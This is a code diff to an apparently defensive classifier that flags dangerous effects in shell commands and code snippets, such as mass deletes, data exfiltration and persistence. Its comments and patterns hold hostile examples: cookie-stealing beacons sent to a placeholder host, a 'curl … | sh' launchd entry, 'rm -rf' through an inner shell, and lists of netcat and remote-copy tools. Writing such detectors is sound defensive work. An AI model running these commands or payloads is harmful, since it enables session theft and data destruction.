@@ -32,6 +32,7 @@ from agentaudit.classifier._effects import (
     Sink,
     Words,
     describe,
+    in_dir,
     is_cmdlet,
     judge,
     normalize_path,
@@ -72,6 +73,16 @@ _CMD_FOR = re.compile(
 _PWSH_STATIC = re.compile(r"\[([\w.]{1,128})\]::")
 _EXEC_LINE = re.compile(r"^\s*(?:Exec\w*|command|cmd|script|run)\s*=\s*(.+)$", re.I | re.M)
 _XML_STRING = re.compile(r"<string>([^<]{1,4096})</string>")
+_PROGRAM_ARGS = re.compile(r"<key>ProgramArguments</key>\s*<array>(.{0,4096}?)</array>", re.S)
+
+
+def _quoted(word: str) -> str:
+    """A word written so that a shell reads it back as one word."""
+    if word and not any(ch.isspace() or ch in "'\"|&;<>()$`" for ch in word):
+        return word
+    return "'" + word.replace("'", "'\\''") + "'"
+
+
 # Shell keywords that start a command which then runs: `do rm …`, `then rm …`, `if rm …`.
 _KEYWORDS = frozenset(
     {"do", "then", "else", "elif", "if", "while", "until", "!", "{", "time", "done", "fi", "esac"}
@@ -164,6 +175,10 @@ _DECODERS = frozenset(
     }
 )
 _NETCAT = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet", "socat"})
+_CLOUD_REMOTES = frozenset({"rclone"})
+_URL_IN_ARGS = re.compile(r"https?://[^\s'\"`)+,]{1,300}")
+_BEACON = re.compile(r"\.src\s*=\s*['\"`](https?://[^'\"`\s]{1,300})")
+_RUBY_BARE_CALL = re.compile(r"(\.[a-z_]\w*[!?]?)(?![\w(!?])")
 _COPY_SINKS = frozenset({"scp", "pscp", "rsync", "sftp", "rclone", "smbclient", "lftp", "ftp"})
 _MAILERS = frozenset(
     {"mail", "mailx", "mutt", "sendmail", "send-mailmessage", "swaks", "msmtp", "ssmtp", "neomutt"}
@@ -260,6 +275,8 @@ class Analyser:
     out: Findings = field(default_factory=Findings)
     budget: int = MAX_COMMANDS
     tainted: set[str] = field(default_factory=set)  # files holding secrets
+    cwd: str = ""  # where a `cd` earlier in the script moved to: relative paths are under it
+    exported: str = ""  # `env A=1 sh -c '…'`: the assignments the inner shell sees
     downloaded: set[str] = field(default_factory=set)  # files fetched from outside
 
     # ------------------------------------------------------------------------ entry points
@@ -322,6 +339,10 @@ class Analyser:
         for e in found:
             self.out.add(e)
             self.out.kinds.add("write")
+        for cmd in _orders.commands(text, self.table, words):
+            self.text(cmd, "command")  # what the order says to run is judged as run
+        for path, clause in _orders.added_to(text, words):
+            self.file_write(path, clause, True, clause, 1)
 
     def setting(self, key: str, value: str) -> None:
         """A setting given as a field (`{"acl": "public-read"}`, `{"cidr": "0.0.0.0/0"}`)."""
@@ -416,6 +437,7 @@ class Analyser:
 
     def _run(self, cmds: list[Cmd], env: dict[str, str], depth: int, pwsh: bool) -> None:
         ran: list[_Ran] = []
+        outer = self.cwd
         for c in cmds:
             if self.budget <= 0:
                 self.out.partial = True
@@ -424,6 +446,9 @@ class Analyser:
             r = self._one(c, c.words, depth, pwsh, recursive_ctx=False, upstream=ran)
             if r is not None:
                 ran.append(r)
+                if r.words.program in _CHDIR and c.stage == 0:
+                    self.cwd = _chdir(self.cwd, r.words)
+        self.cwd = outer
         self._pipelines(ran, depth)
 
     def _one(
@@ -469,12 +494,18 @@ class Analyser:
         text = render(argv)
         w = split_words(argv, text)
         w.recursive_ctx = recursive_ctx
+        w.cwd = self.cwd
 
         fed = _fed_roots(prog, argv, w, c, upstream)
         if fed is not None:
             argv, recursive = fed
             w = split_words(argv, text)
             w.recursive_ctx = recursive
+            w.cwd = self.cwd
+        if i and prog in self.table.shells:
+            # `env A=/srv/x sh -c 'rm -rf $A'`: the inner shell sees the assignments
+            given = [a for a in _substituted(c.words)[:i] if _ASSIGN.match(a)]
+            self.exported = "; ".join(given)
         j = judge(self.table, w)
         for e in j.effects:
             self.out.add(e)
@@ -522,7 +553,10 @@ class Analyser:
         t = self.table
         if prog in t.shells:
             code_arg = _flag_value(argv, "c")
+            exported, self.exported = self.exported, ""
             if code_arg is not None:
+                if exported:
+                    code_arg = f"{exported}; {code_arg}"
                 self.shell(code_arg, strict=False, depth=depth + 1)
                 return True
             if c.heredoc:
@@ -576,6 +610,12 @@ class Analyser:
                 return True
             if a in flags and k + 1 < len(argv):
                 body = " ".join(argv[k + 1 :]) if lang in ("pwsh", "cmd") else argv[k + 1]
+                if lang == "argv":  # `bundle exec rails r '…'`: the rest is a command
+                    body = render(argv[k + 1 :])
+                break
+            eq = a.split("=", 1)[0]
+            if "=" in a and eq in flags and eq.startswith("--"):
+                body = argv[k].split("=", 1)[1]  # `--execute="App\Models\X::truncate();"`
                 break
             if (
                 a.startswith("-")
@@ -607,7 +647,15 @@ class Analyser:
         return True
 
     def _code_body(self, body: str, lang: str, depth: int) -> None:
-        if lang == "sql":
+        if lang == "ruby":  # methods called without parentheses: `Customer.destroy_all`
+            body = _RUBY_BARE_CALL.sub(r"\1()", body)
+            lang = "code"
+        elif lang == "php":  # `DB::table("x")->delete()`: the same call chain, dotted
+            body = body.replace("->", ".").replace("::", ".").replace("\\", ".")
+            lang = "code"
+        if lang == "argv":
+            self.shell(body, strict=False, depth=depth + 1)
+        elif lang == "sql":
             self.sql(body, strict=False)
         elif lang == "pwsh":
             self.shell(body, strict=False, depth=depth + 1, pwsh=True)
@@ -987,11 +1035,17 @@ class Analyser:
     def _local_sinks(self, prog: str, argv: list[str], w: Words, j: Judged, c: Cmd) -> None:
         """Sinks of commands the table has no handler for: copies to other hosts, netcat, mail."""
         pos = [a for a in argv[1:] if not a.startswith("-")]
+        if prog in _CLOUD_REMOTES:  # `rclone copy SRC remote:path --transfers 4`
+            remotes = [k for k, p in enumerate(pos) if _REMOTE_HOST.match(p) and k > 0]
+            if remotes:
+                pos = pos[: remotes[-1] + 1]
         if prog in _COPY_SINKS and len(pos) >= 2:
             dest = pos[-1]
             m = _REMOTE_HOST.match(dest)
             if m is not None and not dest.startswith(("/", "./", "~")):
-                j.sinks.append(Sink(m.group(1), pos[:-1], False, w.text, argv))
+                # an rclone remote is a cloud storage account, not a host of the network
+                outside = prog in _CLOUD_REMOTES
+                j.sinks.append(Sink(m.group(1), pos[:-1], False, w.text, argv, outside))
         elif prog in _NETCAT and pos:
             host = pos[0]
             if not host.isdigit():
@@ -1159,7 +1213,7 @@ class Analyser:
             self.out.add(Effect("remote_control", "", what))
 
     def _exfil(self, sink: Sink, upstream_source: str, r: _Ran) -> None:
-        dest_class = self.dest_class(sink.dest)
+        dest_class = "unknown" if sink.outside else self.dest_class(sink.dest)
         if dest_class == "internal":
             return
         what = upstream_source
@@ -1255,6 +1309,8 @@ class Analyser:
             if not (code.looks_like_js(text) or chained or role == "code" or js_only):
                 return False
             sn = code.scan_calls(text, "js")
+        if sn.language != "python" and ".forEach(" in text:
+            _each_js(sn, text)
         if not sn.calls:
             return False
         self.budget -= 1
@@ -1292,11 +1348,50 @@ class Analyser:
             ):
                 open_target = (call.args[0], call.args[1])
                 break
+        flat = ""  # the snippet without spaces and quotes, for `weaken_when` texts
+        # a database made in memory for the snippet (a test fixture) holds nothing to lose
+        every = "temp" if _MEMORY_DB.search(text) else "data"
         for call in sn.calls:
             chain = call.chain.lower()
             name = call.name.lower()
             first = call.args[0] if call.args else ""
             evidence = f"{call.chain}({first[:60]!r})" if first else f"{call.chain}()"
+            if call.each:
+                # a call once per item of a listing: every item, unless the listing is narrowed
+                if (cat.hit("delete_records", name) or cat.hit("delete_each", name)) and _every(
+                    call, cat, by_chain
+                ):
+                    self.out.add(
+                        Effect(
+                            "destroy",
+                            "data",
+                            describe("deletes every record, one by one", "", False, evidence),
+                        )
+                    )
+                continue
+            if cat.hit("update_records", name) and _overwrites_all(call, cat, by_chain, sn.calls):
+                self.out.add(
+                    Effect(
+                        "destroy", "data", describe("overwrites every record", "", False, evidence)
+                    )
+                )
+            if cat.hit("replace_table", name) and _replaces(call, by_chain):
+                # a table replaced by what the code holds: catastrophic where it is production
+                scope = "data" if _PROD_WORD.search(text) else "service"
+                if every == "temp":
+                    scope = "temp"
+                self.out.add(
+                    Effect("destroy", scope, describe("replaces a table", "", False, evidence))
+                )
+            weak = _when(cat, "weaken_when", name, call)
+            if weak is None and name in cat.text_calls:
+                flat = flat or re.sub(r"[\s'\"]+", "", text).lower()
+                weak = _when_text(cat, "weaken_when_text", name, flat)
+                gone = _when_text(cat, "destroy_when_text", name, flat)
+                if gone:
+                    self.out.add(Effect("destroy", every, describe(gone, "", False, evidence)))
+            if weak:
+                self.out.add(Effect("weaken_security", "", describe(weak, "", False, evidence)))
             if cat.hit("walk", chain) and first:
                 walk_root = walk_root or first
             if cat.hit("shell", chain):
@@ -1336,19 +1431,19 @@ class Analyser:
                 )
             destroys = _destroy_when(cat, name, call)
             if destroys:
-                self.out.add(Effect("destroy", "data", describe(destroys, "", False, evidence)))
+                self.out.add(Effect("destroy", every, describe(destroys, "", False, evidence)))
             elif cat.hit("delete_everything", chain) or cat.hit("delete_everything", name):
                 self.out.add(
-                    Effect("destroy", "data", describe("deletes every record", "", False, evidence))
+                    Effect("destroy", every, describe("deletes every record", "", False, evidence))
                 )
             elif cat.hit("delete_records", name) and not cat.hit("delete_path", chain):
                 if _unfiltered(call, cat, by_chain, sn.calls):
                     self.out.add(
                         Effect(
-                            "destroy", "data", describe("deletes every record", "", False, evidence)
+                            "destroy", every, describe("deletes every record", "", False, evidence)
                         )
                     )
-                else:
+                elif not _narrowed_receiver(call, cat, by_chain):
                     self._verb_noun_call(call, evidence, only_severe=True)
                 self.out.kinds.add("write")
             else:
@@ -1442,6 +1537,10 @@ class Analyser:
                     if a.startswith(("http://", "https://", "ftp://")):
                         send_dest = send_dest or a
                         self.out.urls.append(a)
+                m = _URL_IN_ARGS.search(call.argtext) if not send_dest else None
+                if m is not None:  # `fetch("https://x/?d=" + document.cookie)`
+                    send_dest = m.group(0)
+                    self.out.urls.append(send_dest)
                 if name in ("sendmail", "send_message", "send_mail", "sendmessage"):
                     mail_send = True
             if cat.hit("kill", chain) or (name in ("kill", "terminate") and "process" in chain):
@@ -1521,6 +1620,13 @@ class Analyser:
             for body in decoded:
                 if not self.snippet(body, "code"):
                     self.shell(body, strict=False, depth=1)
+        low_text = text.lower()
+        held = [x for x in cat.spec.get("secret_values") or () if str(x) in low_text]
+        if held and not secret_read:
+            secret_read = str(held[0])  # the page's cookies or storage (tokens, sessions)
+        beacon = _BEACON.search(text) if not send_dest and held else None
+        if beacon is not None:  # `new Image().src = "https://x/p.gif?c=" + document.cookie`
+            send_dest = beacon.group(1)
         if secret_read and send_dest and self.dest_class(send_dest) != "internal":
             host = send_dest.split("://", 1)[-1].split("/", 1)[0]
             self.out.add(
@@ -1708,12 +1814,183 @@ _TABLE_DELETES = frozenset(
         "sqlalchemy.sql.delete",
         "sqlalchemy.sql.update",
         "sqlalchemy.sql.expression.delete",
+        "sa.delete",
+        "sa.update",
         "db.delete",
         "tx.delete",
         "trx.delete",
         "db.update",
     }
 )
+
+
+_MEMORY_DB = re.compile(r"sqlite:(?://)?/?:memory:|sqlite://['\"]|\(\s*['\"]:memory:['\"]")
+_PROD_WORD = re.compile(r"(?i)(?<![a-z0-9])(?:prod|production|prd)(?![a-z0-9])")
+_JS_EACH = re.compile(
+    r"\b(\w+)(?:\.docs)?\.forEach\(\s*(?:async\s*)?\(?\s*(\w+)\s*\)?\s*=>\s*\{?\s*"
+    r"(?:await\s+)?\2\.[\w.]{0,80}?(\w{1,40})\s*\("
+)
+
+
+def _each_js(sn: code.Snippet, text: str) -> None:
+    """`const snap = await db.collection("x").get(); snap.forEach(d => d.ref.delete())`: the
+    call on each item is recorded as made on the listing (`each`), as for a Python loop."""
+    for m in _JS_EACH.finditer(text[:8192]):
+        listing, method = m.group(1), m.group(3)
+        a = re.search(
+            rf"\b(?:const|let|var)\s+{re.escape(listing)}\s*=\s*(?:await\s+)?([^;\n]{{1,300}})",
+            text,
+        )
+        if a is None:
+            continue
+        rhs = code.scan_calls(a.group(1), "js").calls
+        if rhs:
+            over = max(rhs, key=lambda c: len(c.chain)).chain
+            sn.calls.append(code.Call(f"{over}().{method}", each=True))
+
+
+_FILTER_KWARGS = frozenset(
+    {
+        "prefix",
+        "filter",
+        "filters",
+        "filterexpression",
+        "keyconditionexpression",
+        "where",
+        "query",
+        "q",
+        "search",
+        "status",
+        "since",
+        "until",
+        "before",
+        "after",
+        "created",
+        "ids",
+        "id",
+    }
+)
+
+
+def _every(call: code.Call, cat: CodeCalls, by_chain: dict[str, code.Call]) -> bool:
+    """A loop's listing (`db.collection("x").stream()`, `Customer.list().auto_paging_iter()`)
+    takes every record unless a step narrows it: a filter with arguments, any later call with
+    arguments, or a first call given a filter keyword (`list_objects(Prefix=…)`)."""
+    steps = call.chain.split(".")[:-1]
+    prefix = ""
+    named = False  # the first call given arguments names the collection (`collection("x")`)
+    for s in steps:
+        prefix = f"{prefix}.{s}" if prefix else s
+        if not s.endswith("()"):
+            continue
+        inner = by_chain.get(prefix[:-2])
+        if inner is not None and (inner.nargs or inner.args):
+            if (
+                cat.hit("filters", s[:-2].lower())
+                or named
+                or {k.lower() for k in inner.kwargs} & _FILTER_KWARGS
+            ):
+                return False
+            named = True
+    return bool(steps)
+
+
+def _narrowed_receiver(
+    call: code.Call, cat: CodeCalls, by_chain: dict[str, code.Call]
+) -> bool:
+    """`bucket("b").blob("tmp/x.json").delete()`: called on one item picked by a filter."""
+    recv = call.chain.rsplit(".", 1)[0] if "." in call.chain else ""
+    if not recv.endswith("()") or not cat.hit("filters", recv[:-2].rsplit(".", 1)[-1].lower()):
+        return False
+    inner = by_chain.get(recv[:-2])
+    return inner is not None and bool(inner.nargs or inner.args)
+
+
+def _overwrites_all(
+    call: code.Call, cat: CodeCalls, by_chain: dict[str, code.Call], calls: list[code.Call]
+) -> bool:
+    """An update of a whole table or collection: `X.objects.update(…)`, `query(X).update(…)`,
+    `update(X).values(…)` never followed by `.where(…)`, `Model.update(…).execute()`,
+    `prisma.x.updateMany({data})`, `Model.update(v, {where: {}})`."""
+    arg = "".join(call.argtext.split()).lower()
+    if "where:{}" in arg:
+        return True
+    if "where" in arg or {k.lower() for k in call.kwargs} & {"where", "filter"}:
+        return False
+    steps = [s for s in call.chain.split(".") if s]
+    prefix = ""
+    for s in steps[:-1]:
+        prefix = f"{prefix}.{s}" if prefix else s
+        if s.endswith("()") and cat.hit("filters", s[:-2].lower()):
+            inner = by_chain.get(prefix[:-2])
+            if inner is None or inner.nargs or inner.args:
+                return False
+    later = call.chain + "()."
+    for other in calls:
+        if other.chain.startswith(later) and cat.hit("filters", other.name.lower()):
+            return False
+    low = steps[:-1]
+    if not low:
+        # `update(Account).values(balance=0)`: a statement over the whole table
+        return call.nargs == 1 and any(o.chain.startswith(later + "values") for o in calls)
+    return (
+        call.chain.lower() in _TABLE_DELETES
+        or any(s[:1].isupper() and not s.endswith("()") for s in low)
+        or "objects" in low
+        or any(
+            s.endswith("()") and s[:-2].lower() in ("all", "query", "table", "collection", "model")
+            for s in low
+        )
+        or (low[0].lower() in ("prisma", "tx") and len(steps) >= 3)
+    )
+
+
+def _replaces(call: code.Call, by_chain: dict[str, code.Call]) -> bool:
+    """`to_sql(…, if_exists="replace")`, `.mode("overwrite").saveAsTable(…)`."""
+    if any(
+        k.lower() in ("if_exists", "if_table_exists", "mode")
+        and v.lower() in ("replace", "overwrite")
+        for k, v in call.kwargs.items()
+    ):
+        return True
+    if call.kwargs.get("overwrite", "").lower() == "true":
+        return True
+    steps = call.chain.split(".")[:-1]
+    prefix = ""
+    for s in steps:
+        prefix = f"{prefix}.{s}" if prefix else s
+        if s.lower() == "mode()":
+            inner = by_chain.get(prefix[:-2])
+            if inner is not None and any(a.lower() == "overwrite" for a in inner.args):
+                return True
+    return False
+
+
+def _when(cat: CodeCalls, key: str, name: str, call: code.Call) -> str | None:
+    """The explanation of a `<key>` entry (`destroy_when`, `weaken_when`) whose call and
+    argument text (or keyword arguments) match; None when no entry names the call."""
+    arg = "".join(call.argtext.split()).lower()
+    kw = ",".join(f"{k}={v}" for k, v in call.kwargs.items()).lower()
+    named = False
+    for spec in cat.spec.get(key) or ():
+        if str(spec.get("call", "")).lower() != name:
+            continue
+        named = True
+        args = [str(a).lower() for a in spec.get("args") or ()]
+        if not args or any(a in arg or a in kw for a in args):
+            return str(spec.get("explain") or "weakens security")
+    return "" if named else None
+
+
+def _when_text(cat: CodeCalls, key: str, name: str, flat: str) -> str:
+    """A `weaken_texts` entry: the call appears with one of its texts anywhere in the snippet
+    (a policy built beside the call: `Policy=json.dumps({"Principal": "*", …})`)."""
+    for spec in cat.spec.get(key) or ():
+        if str(spec.get("call", "")).lower() == name and any(
+            str(x).lower() in flat for x in spec.get("texts") or ()
+        ):
+            return str(spec.get("explain") or "weakens security")
+    return ""
 
 
 def _destroy_when(cat: CodeCalls, name: str, call: code.Call) -> str:
@@ -2069,6 +2346,20 @@ def dangerous(effects: list[Effect]) -> list[Effect]:
     return [e for e in effects if e.kind in DANGEROUS]
 
 
+_CHDIR = frozenset({"cd", "pushd", "chdir", "set-location", "sl"})
+
+
+def _chdir(cwd: str, w: Words) -> str:
+    """Where `cd <dir>` moves to, from `cwd` ("" when unknown: `cd -`, `cd` alone, `popd`)."""
+    dirs = [w.argv[1 + i] for i in w.positional]
+    if len(dirs) != 1 or dirs[0] == "-":
+        return ""
+    d = dirs[0].strip("'\"")
+    if d[:1] in ("/", "~", "$") or d[1:3] in (":\\", ":/"):
+        return d
+    return in_dir(cwd, d) if cwd else ""
+
+
 def strip_wrappers(t: EffectTable, argv: list[str]) -> tuple[int, str]:
     """Index of the command after `sudo`, `env`, `nohup`, `timeout 5`, shell keywords…, and the
     wrapper that escalates ("" if none)."""
@@ -2224,6 +2515,10 @@ def _persisted_commands(path: str, content: str) -> list[str]:
     if "<plist" in content or "<string>" in content:
         import html
 
+        m = _PROGRAM_ARGS.search(content)
+        if m is not None:  # one word per <string>: `sh -c "curl … | sh"` stays one command
+            words = [html.unescape(x) for x in _XML_STRING.findall(m.group(1))]
+            return [" ".join(_quoted(w) for w in words)]
         return [" ".join(html.unescape(x) for x in _XML_STRING.findall(content))]
     execs = _EXEC_LINE.findall(content)
     if execs:
@@ -2269,6 +2564,13 @@ def _installed_command(prog: str, argv: list[str]) -> str:
         return (after("-execute") + " " + after("-argument")).strip()
     if prog in ("new-service", "sc") and ("create" in low or prog == "new-service"):
         return after("-binarypathname", "binpath=", "binpath")
+    if prog == "defaults" and "programarguments" in low:
+        # `defaults write <launchd plist> ProgramArguments -array /bin/sh -c '…'`
+        k = low.index("programarguments")
+        words = argv[k + 1 :]
+        if words and words[0].lower() in ("-array", "-array-add"):
+            words = words[1:]
+        return render(words)
     if prog == "runas":
         pos = [a for a in argv[1:] if not a.startswith("/")]
         return pos[-1] if pos else ""
